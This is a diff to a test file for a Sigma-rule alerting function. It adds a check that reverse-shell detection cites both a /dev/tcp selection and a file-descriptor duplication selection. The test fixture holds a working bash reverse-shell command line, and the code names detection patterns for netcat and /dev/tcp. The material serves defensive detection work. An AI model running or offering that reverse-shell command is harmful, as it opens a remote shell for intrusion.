@@ -78,12 +78,20 @@ describe('alertFromSigmaMatch', () => {
         expectedValue: expect.stringContaining('CommandLine|contains'),
         eventIds: ['evt-rs'],
       }),
+      // The rule needs the shell's descriptors duplicated onto the socket too (`>&`): opening
+      // /dev/tcp alone is how health checks test a port.
+      expect.objectContaining({
+        expectedValue: 'CommandLine|contains: ">&"',
+        summary: expect.stringContaining("selection 'selection_fd_duplication'"),
+        eventIds: ['evt-rs'],
+      }),
     ]);
   });
 
   it('cites only the selections that made the condition true, not those that matched in vain', () => {
     // `bash -c "…/dev/tcp/…"` matches selection_netcat_exec (" -c ") too, but that selection counts
-    // only together with a netcat image, which this is not: the verdict rests on selection_dev_tcp.
+    // only together with a netcat image, which this is not: the verdict rests on selection_dev_tcp
+    // and the descriptor duplication the rule requires with it.
     const { alert } = build(
       processLaunch(
         { Image: '/bin/bash', CommandLine: 'bash -c "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1"' },
@@ -94,6 +102,7 @@ describe('alertFromSigmaMatch', () => {
     expect(alert.explanation).not.toContain('selection_netcat_exec');
     expect(alert.reasons.map((r) => r.summary.split(':')[0])).toEqual([
       "selection 'selection_dev_tcp'",
+      "selection 'selection_fd_duplication'",
     ]);
   });
 
